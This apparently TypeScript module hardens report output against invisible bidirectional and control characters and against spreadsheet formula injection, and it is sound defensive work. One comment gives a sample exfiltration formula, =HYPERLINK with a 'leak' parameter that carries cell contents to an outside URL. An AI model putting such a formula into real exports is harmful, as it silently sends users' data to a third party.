// Text from a workbook on its way into a report: never a live formula where a spreadsheet program opens the
// report, never a character that reorders or hides what a reader sees, never an unbounded quote.
// Used by the CLI presenters (text, HTML, JSON) and by the report sheet and exports.

/** Characters that change how text reads without being seen: bidi embeddings, overrides and isolates, the
 *  directional marks, line and paragraph separators, zero-width characters and the byte order mark, and the C0/C1
 *  controls (U+0085 next line, U+009B CSI, U+009D OSC drive terminals). Tab and newline are left to the caller. */
export const INVISIBLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2064\u2066-\u2069\ufeff]/g;

const hex = (ch: string) => ch.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0");

/** Invisible characters shown as "[U+202E]", so a reversed or hidden name is seen for what it is. */
export function showInvisible(s: string): string {
  return s.replace(INVISIBLE, (ch) => `[U+${hex(ch)}]`);
}

/** JSON text with the invisible characters as \uXXXX escapes: the same strings once parsed, nothing raw on a terminal. */
export function escapeJsonInvisible(json: string): string {
  return json.replace(INVISIBLE, (ch) => `\\u${hex(ch).toLowerCase()}`);
}

/** A figure as reports print it ("-Rp 1.000", "-12,5%", "-0.25"): starts with "-" but is no formula. */
const PLAIN_FIGURE = /^[-+]\s*(?:rp\.?\s*)?[\d.,\s]*\d[\d.,]*\s*%?$/i;

/**
 * Text bound for a spreadsheet (HTML report, CSV, .xlsx export, report sheet): a leading = + - @ tab or carriage
 * return would make Excel or LibreOffice read it as a formula (=HYPERLINK("http://…?leak="&A2) sends data away).
 * Such text gets a leading apostrophe, which spreadsheets show as text. Plain signed figures stay as they are.
 */
export function neutralizeFormula(s: string): string {
  if (s === "" || !/^[=+\-@\t\r]/.test(s)) return s;
  if (PLAIN_FIGURE.test(s)) return s;
  return "'" + s;
}

// One bound for quoted text, shared with the engine (src/core/findings/bounds.ts).
export { boundText, MAX_QUOTE } from "../core/findings/bounds";
